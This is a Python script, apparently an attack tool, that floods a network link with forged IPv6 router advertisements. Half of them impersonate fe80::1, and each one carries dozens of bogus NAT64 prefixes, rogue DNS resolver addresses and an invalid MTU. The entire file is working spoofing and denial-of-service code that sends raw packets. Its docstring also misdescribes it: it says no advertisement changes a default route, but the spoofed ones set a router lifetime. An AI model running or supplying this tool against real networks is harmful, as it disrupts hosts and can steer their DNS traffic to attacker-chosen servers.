#!/usr/bin/env python3
"""Floods a link with router advertisements (RFC 4861) of routers, NAT64 prefixes (RFC 8781) and resolvers that do not exist.

Usage: ra-flood.py INTERFACE COUNT

Sends COUNT advertisements: half of them from routers made up for each, half in the name of fe80::1; each with 40 prefixes
(a quarter of them of no use), two resolvers and an MTU that must not count. None changes a default route. Says "N sent" after
every thousand.
"""
import random
import socket
import struct
import sys

ALL_NODES = socket.inet_pton(socket.AF_INET6, "ff02::1")
FE80_1 = socket.inet_pton(socket.AF_INET6, "fe80::1")
ICMPV6 = 58


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def frame(number: int, chance: random.Random) -> bytes:
    posing = number % 2 == 1
    message = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800 if posing else 0, 0, 0)
    message += struct.pack("!BBHI", 5, 1, 0, chance.choice((1200, 9000)))
    for i in range(40):
        start = b"\xff\x02" if i % 4 == 3 else b"\x20\x01"
        message += struct.pack("!BBH", 38, 2, 225 << 3) + start + chance.randbytes(6) + b"\0" * 4
    message += struct.pack("!BBHI", 25, 5, 0, 1800)
    message += b"".join(b"\x20\x01\x0d\xb8" + chance.randbytes(12) for _ in range(2))
    source = FE80_1 if posing else b"\xfe\x80" + b"\0" * 6 + chance.randbytes(8)
    pseudo = source + ALL_NODES + struct.pack("!II", len(message), ICMPV6)
    message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
    header = struct.pack("!IHBB", 6 << 28, len(message), ICMPV6, 255) + source + ALL_NODES
    ethernet = b"\x33\x33\0\0\0\x01" + b"\x02" + chance.randbytes(5) + b"\x86\xdd"
    return ethernet + header + message


def main() -> None:
    interface, count = sys.argv[1], int(sys.argv[2])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((interface, 0))
    chance = random.Random(1)
    for number in range(1, count + 1):
        sock.send(frame(number, chance))
        if number % 1000 == 0:
            print(f"{number} sent", flush=True)


main()
